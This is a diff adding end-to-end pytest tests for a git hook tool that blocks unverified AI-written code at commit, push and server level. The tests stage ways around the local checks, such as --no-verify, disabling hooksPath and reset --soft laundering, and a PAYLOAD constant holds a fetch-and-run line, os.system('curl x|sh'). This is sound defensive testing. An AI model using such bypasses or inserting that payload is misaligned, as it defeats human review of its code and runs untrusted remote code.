@@ -1,0 +1,385 @@
+"""Delegation follows the writer's content, not the next commit (SPEC §3 "Binding" and
+"Attribution follows content", §5, §6): each reproduction, through ``gentle-hook install``,
+real git, a bare remote with the server gate (``install --server``) and notes shared with
+it (``install --share origin``).
+
+* Unverified AI work is blocked until verified: after ``reset --soft``, with hooks off and
+  an escalation, across ``commit -a --amend -m``, from another worktree, after a partial
+  commit, under warn mode from any source (let through only when recorded and printed).
+* A human's change passes with no ``Gentle-Writer`` trailer: after ``reset --hard`` of the
+  writer's work, when ``rebase --autostash`` or ``cherry-pick`` replays human commits while
+  writer work is pending, from a worktree other than the writer's. An empty message stays
+  an aborted commit.
+
+Receipts that cannot count (``true``, a failure "agreed" by a failing re-run, exit 127) are
+in ``test_spot_check.py``; committed ``mode = "warn"`` in ``test_commit_gate.py``.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.e2e.conftest import Run, World
+
+GOOD = "def add(a, b):\n    return a + b  # writer\n"
+#: What a careless agent adds once the checked work was uncommitted again.
+PAYLOAD = GOOD + "\n\nimport os\nos.system('curl x|sh')\n"
+TRAILER = "Gentle-Writer:"
+
+
+@pytest.fixture
+def served(native: World) -> World:
+    """``native`` with the server gate on its bare remote and notes shared with it (a bare
+    ``git push`` sends the current branch and the notes)."""
+    assert native.gh("install", "--server", cwd=native.remote).code == 0
+    assert native.gh("install", "--share", "origin").code == 0
+    return native
+
+
+def _blocked_staged(r: Run, path: str = "src/app.py") -> None:
+    assert r.code == 1, r
+    assert r.said[0] == (
+        f"gentle-hooks: BLOCKED the staged change: delegated (writer content (o4-mini/low) in "
+        f"{path})"
+    ), r
+
+
+def _blocked_push(r: Run, commit: str, path: str = "src/app.py") -> None:
+    assert r.code == 1, r
+    assert (
+        f"gentle-hooks: BLOCKED commit {commit[:12]} on refs/heads/main: delegated (writer "
+        f"content (o4-mini/low) in {path})"
+    ) in r.said, r
+
+
+def _message(w: World, rev: str = "HEAD", cwd: Path | None = None) -> str:
+    return w.ok("log", "-1", "--format=%B", rev, cwd=cwd)
+
+
+def _server_rejects(w: World, commit: str) -> None:
+    """A push with the local hook skipped reaches the server gate, which rejects it."""
+    before = w.remote_ref("main")
+    r = w.git("push", "--no-verify", "origin")
+    assert r.code != 0, r
+    assert f"remote: gentle-hooks: BLOCKED {commit[:12]} on refs/heads/main" in r.err, r
+    assert w.remote_ref("main") == before
+
+
+# -- unverified AI work is blocked ------------------------------------------------------
+
+
+def test_reset_soft_cannot_launder_checked_work_into_an_unchecked_commit(served: World) -> None:
+    w = served
+    w.delegate(text=GOOD)
+    w.spot_check()
+    assert w.git("commit", "-qam", "agent").code == 0
+    w.ok("reset", "-q", "--soft", "HEAD~1")
+    w.write("src/app.py", PAYLOAD)
+    _blocked_staged(w.git("commit", "-qam", "refactor"))
+    w.ok("commit", "-q", "--no-verify", "-am", "refactor")
+    bad = w.rev("HEAD")
+    assert TRAILER in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad)
+    ci = w.gh("gate", "--range", "origin/main..HEAD")
+    assert ci.code == 1, ci
+    assert f"BLOCKED {bad[:12]}" in ci.out + ci.err
+    _server_rejects(w, bad)
+    # verified on the commit it is now, it goes through
+    w.report("--committed")
+    w.spot_check("--committed")
+    assert w.git("push", "origin").code == 0
+    assert w.remote_ref("main") == bad
+
+
+def test_an_escalation_binds_work_committed_with_hooks_off(served: World) -> None:
+    w = served
+    w.delegate(text="def check_token(t):\n    return bool(t)\n")
+    w.escalate()
+    w.ok("add", "-A")
+    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-q", "-m", "writer: tokens")
+    bad = w.rev("HEAD")
+    w.report("--committed")
+    w.spot_check("--committed")
+    status = w.gh("status", "--committed")
+    push = w.git("push", "origin", "main")
+    _blocked_push(push, bad)
+    assert any("needs 1 accepted gentle-ai-verify verdict" in line for line in push.said), push
+    assert "escalated" in status.out + status.err, status
+    assert w.remote_ref("main") != bad
+    assert w.verdict("--committed").code == 0
+    assert w.git("push", "origin").code == 0
+    assert w.remote_ref("main") == bad
+
+
+def test_commit_all_amend_with_a_message_keeps_the_writer_trailer(served: World) -> None:
+    w = served
+    w.delegate(text=GOOD)
+    w.spot_check()
+    assert w.git("commit", "-qam", "agent").code == 0
+    assert TRAILER in _message(w)
+    r = w.git("commit", "-a", "--amend", "-m", "tidy")
+    assert r.code == 0, r
+    assert _message(w).startswith("tidy\n")
+    assert "Gentle-Writer: o4-mini/low" in _message(w)
+    # the same tree, verified: the push and the server accept it
+    assert w.git("push", "origin").code == 0
+    assert w.remote_ref("main") == w.rev("HEAD")
+
+
+def test_commit_all_amend_changing_the_tree_is_blocked_and_keeps_the_trailer(
+    served: World,
+) -> None:
+    w = served
+    w.delegate(text=GOOD)
+    w.spot_check()
+    assert w.git("commit", "-qam", "agent").code == 0
+    w.write("src/app.py", PAYLOAD)
+    _blocked_staged(w.git("commit", "-a", "--amend", "-m", "tidy"))
+    w.ok("commit", "-q", "-a", "--no-verify", "--amend", "-m", "tidy")
+    bad = w.rev("HEAD")
+    assert "Gentle-Writer: o4-mini/low" in _message(w)
+    _blocked_push(w.git("push", "origin", "main"), bad)
+    _server_rejects(w, bad)
+
+
+def test_work_recorded_in_one_worktree_is_delegated_when_committed_in_another(
+    served: World,
+) -> None:
+    w = served
+    b = w.base / "b"
+    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
+    w.delegate(text=GOOD)  # recorded in A
+    w.write("src/app.py", GOOD, cwd=b)  # the same content, committed in B
+    w.ok("add", "-A", cwd=b)
+    _blocked_staged(w.git("commit", "-m", "from b", cwd=b))
+    w.ok("commit", "-q", "--no-verify", "-m", "from b", cwd=b)
+    bad = w.rev("HEAD", cwd=b)
+    assert TRAILER in _message(w, cwd=b)
+    push = w.git("push", "origin", "topic:main", cwd=b)
+    _blocked_push(push, bad)
+    ci = w.gh("gate", "--range", f"{w.rev('origin/main')}..{bad}", cwd=b)
+    assert ci.code == 1, ci
+    r = w.git("push", "--no-verify", "origin", "topic:main", "refs/notes/gentle-hooks", cwd=b)
+    assert r.code != 0 and f"remote: gentle-hooks: BLOCKED {bad[:12]}" in r.err, r
+
+
+def test_a_partial_commit_leaves_the_rest_of_the_work_pending(served: World) -> None:
+    w = served
+    w.write("src/f.py", "def f(x):\n    return x * 2  # writer f\n")
+    w.write("src/g.py", "def g(x):\n    return x * 3  # writer g\n")
+    w.delegate()  # both files, one record
+    w.ok("add", "-A")
+    skip = {"GENTLE_HOOKS_SKIP": "g only, checked by hand"}
+    assert w.git("commit", "-q", "--only", "src/g.py", "-m", "g", env=skip).code == 0
+    first = w.rev("HEAD")
+    assert w.ok("show", "--name-only", "--format=", "HEAD") == "src/g.py\n"
+    r = w.git("commit", "-a", "-m", "f")
+    _blocked_staged(r, "src/f.py")
+    w.ok("commit", "-q", "-a", "--no-verify", "-m", "f")
+    second = w.rev("HEAD")
+    assert TRAILER in _message(w, first) and TRAILER in _message(w, second)
+    push = w.git("push", "origin", "main")
+    _blocked_push(push, first, "src/g.py")
+    _blocked_push(push, second, "src/f.py")
+    assert w.remote_ref("main") == w.rev("HEAD~2")
+
+
+@pytest.mark.parametrize("source", ["env", "git config", "untracked toml"])
+def test_warn_mode_from_any_source_is_recorded_and_printed(native: World, source: str) -> None:
+    w = native
+    env: dict[str, str] = {}
+    if source == "env":
+        env = {"GENTLE_HOOKS_MODE": "warn"}
+        named = "GENTLE_HOOKS_MODE=warn"
+    elif source == "git config":
+        w.ok("config", "gentle.mode", "warn")
+        named = "git config gentle.mode"
+    else:
+        w.write(".gentle-hooks.toml", 'mode = "warn"\n')
+        w.write(".git/info/exclude", ".gentle-hooks.toml\n")
+        named = ".gentle-hooks.toml"
+    w.delegate(text=GOOD)
+    w.ok("add", "src/app.py")
+    r = w.git("commit", "-m", "writer: warned", env=env)
+    assert r.code == 0, r
+    assert r.said[0].startswith("gentle-hooks: BLOCKED the staged change: delegated"), r
+    said = [line for line in r.said if "warn mode (" in line]
+    assert said and named in said[0] and "recorded" in said[0], r
+    push = w.git("push", "origin", "main", env=env)
+    assert push.code == 0, push
+    assert any("warn mode (" in line and named in line for line in push.said), push
+    rows = w.ledger("SELECT hook, reason FROM override ORDER BY id")
+    assert [h for h, _ in rows] == ["pre-commit", "pre-push"], rows
+    assert all(str(reason).startswith("warn mode (") for _, reason in rows), rows
+
+
+# -- a human's change passes with no trailer --------------------------------------------
+
+
+def _passes_quietly(r: Run) -> None:
+    assert r.code == 0, r
+    assert not [line for line in r.said if "BLOCKED" in line or "delegated" in line], r
+
+
+def test_after_reset_hard_a_human_commit_passes_with_no_trailer(served: World) -> None:
+    w = served
+    w.delegate(text=GOOD)
+    w.ok("reset", "-q", "--hard")
+    w.write("README.md", "# demo, by a human\n")
+    w.ok("add", "-A")
+    _passes_quietly(w.git("commit", "-m", "human: readme"))
+    assert TRAILER not in _message(w)
+    # the line the writer replaced, replaced by hand: the writer's content is gone
+    w.write("src/app.py", "def add(a, b):\n    return b + a\n")
+    r = w.git("commit", "-qam", "human: app")
+    _passes_quietly(r)
+    assert r.said == [
+        "gentle-hooks: pending writer work on src/app.py expired: its content is no longer in "
+        "the work tree, the index, HEAD, an unpushed commit or a stash"
+    ], r
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+    status = w.gh("status")
+    assert status.code == 0, status
+    assert w.ledger("SELECT count(*) FROM commit_record") == [(0,)]
+
+
+def test_after_reset_hard_a_human_commit_with_hooks_skipped_gets_no_trailer(
+    served: World,
+) -> None:
+    w = served
+    w.delegate(text=GOOD)
+    w.ok("reset", "-q", "--hard")
+    w.write("src/app.py", "def add(a, b):\n    return b + a\n")
+    r = w.git("commit", "--no-verify", "-qam", "human: app")
+    assert r.code == 0, r
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+
+
+def test_a_writers_removal_mixed_with_a_human_edit_stays_delegated(native: World) -> None:
+    """A write that only removes lines cannot be told from a human's removal of the same
+    lines once the file moved on: it keeps delegating (fail closed)."""
+    w = native
+    checks = "def load(token):\n    verify_signature(token)\n    verify_expiry(token)\n"
+    w.write("src/auth.py", checks + "    return token\n")
+    w.ok("add", "-A")
+    w.ok("commit", "-q", "-m", "human: auth")
+    w.write("src/auth.py", "def load(token):\n    return token\n")
+    w.delegate()  # the writer removed both checks
+    w.write("src/auth.py", "def load(token):\n    return token.strip()\n")  # and a human
+    w.ok("add", "-A")
+    _blocked_staged(w.git("commit", "-m", "auth"), "src/auth.py")
+
+
+def test_lines_that_reached_head_after_a_reset_are_not_the_next_writes(served: World) -> None:
+    """The writer's work is reset away; a human's commit from worktree B reaches A by
+    cherry-pick; the writer writes again in A. The human's lines are not the writer's: B's
+    commit pushes with no trailer."""
+    w = served
+    b = w.base / "b"
+    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
+    w.delegate(text=GOOD)
+    w.ok("reset", "-q", "--hard")
+    human = "def add(a, b):\n    return a + b\n\n\ndef helper(x):\n    return human_value(x) + 1\n"
+    w.write("src/app.py", human, cwd=b)
+    _passes_quietly(w.git("commit", "-qam", "human in b", cwd=b))
+    w.ok("cherry-pick", "topic")
+    assert TRAILER not in _message(w)
+    w.write("src/app.py", human + "\n\ndef writer_two(y):\n    return writer_value(y) * 2\n")
+    assert w.gh("record", "--model", "o4-mini", "--effort", "low", "src/app.py").code == 0
+    _passes_quietly(w.git("push", "origin", "topic:main", cwd=b))
+    assert w.remote_ref("main") == w.rev("topic")
+    _blocked_staged(w.git("commit", "-qam", "writer: two"))  # the writer's own lines are
+
+
+def test_discard_abandons_pending_work_on_purpose(native: World) -> None:
+    w = native
+    w.delegate(text=GOOD)
+    r = w.gh("discard", "--all", "--reason", "the agent's attempt is dropped")
+    assert r.code == 0, r
+    w.ok("add", "-A")
+    _passes_quietly(w.git("commit", "-m", "human keeps it"))
+    assert TRAILER not in _message(w)
+    assert w.ledger("SELECT reason FROM discard") == [("the agent's attempt is dropped",)]
+
+
+def _upstream_moves_and_a_human_commits(w: World) -> str:
+    """origin/main gets a README change; main gets a human docs commit (not pushed)."""
+    w.ok("switch", "-q", "-c", "upstream")
+    w.write("README.md", "# demo, upstream\n")
+    w.ok("commit", "-q", "-a", "-m", "upstream: readme")
+    w.ok("push", "-q", "origin", "upstream:main")
+    w.ok("switch", "-q", "main")
+    w.write("docs.md", "local notes\n")
+    w.ok("add", "docs.md")
+    w.ok("commit", "-q", "-m", "human: local notes")
+    return w.rev("HEAD")
+
+
+def test_rebase_autostash_replays_human_commits_without_a_trailer(served: World) -> None:
+    w = served
+    _upstream_moves_and_a_human_commits(w)
+    w.delegate(text=GOOD)  # pending, in the work tree
+    w.ok("fetch", "-q", "origin")
+    r = w.git("rebase", "--autostash", "origin/main")
+    assert r.code == 0, r
+    assert w.ok("log", "--format=%s", "origin/main..") == "human: local notes\n"
+    assert TRAILER not in _message(w)
+    assert w.ok("status", "--porcelain") == " M src/app.py\n"
+    _passes_quietly(w.git("push", "origin", "HEAD:main"))
+    # the writer's work is still pending, and blocked when it is committed
+    _blocked_staged(w.git("commit", "-am", "writer"))
+
+
+def test_cherry_pick_of_a_human_commit_gets_no_trailer(served: World) -> None:
+    w = served
+    w.ok("switch", "-q", "-c", "side")
+    w.write("docs.md", "a human's docs\n")
+    w.ok("add", "docs.md")
+    w.ok("commit", "-q", "-m", "human: docs")
+    human = w.rev("HEAD")
+    w.ok("switch", "-q", "main")
+    w.delegate(text=GOOD)  # pending, in the work tree
+    r = w.git("cherry-pick", human)
+    assert r.code == 0, r
+    assert TRAILER not in _message(w)
+    _passes_quietly(w.git("push", "origin", "HEAD:main"))
+    assert w.remote_ref("main") == w.rev("HEAD")
+    _blocked_staged(w.git("commit", "-am", "writer"))
+
+
+def test_a_human_commit_from_another_worktree_is_not_blocked_by_pending_work(
+    served: World,
+) -> None:
+    w = served
+    b = w.base / "b"
+    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
+    w.delegate(text=GOOD)  # pending in A
+    w.write("README.md", "# demo, by a human in b\n", cwd=b)
+    w.ok("add", "-A", cwd=b)
+    _passes_quietly(w.git("commit", "-m", "human in b", cwd=b))
+    assert TRAILER not in _message(w, cwd=b)
+    _passes_quietly(w.git("push", "origin", "topic:main"))  # pushed from A
+    assert w.remote_ref("main") == w.rev("topic")
+
+
+def test_an_empty_message_with_pending_work_aborts_the_commit(native: World) -> None:
+    w = native
+    w.delegate(text=GOOD)
+    w.spot_check()
+    w.ok("add", "-A")
+    head = w.rev("HEAD")
+    r = w.git("commit", "-m", "")
+    assert r.code != 0, r
+    assert "empty commit message" in r.err.lower(), r
+    assert w.rev("HEAD") == head
+    w.write("README.md", "# demo, human\n")  # a human's change with the writer's pending
+    w.ok("reset", "-q")
+    w.ok("add", "README.md")
+    r = w.git("commit", "-m", "")
+    assert r.code != 0 and w.rev("HEAD") == head, r
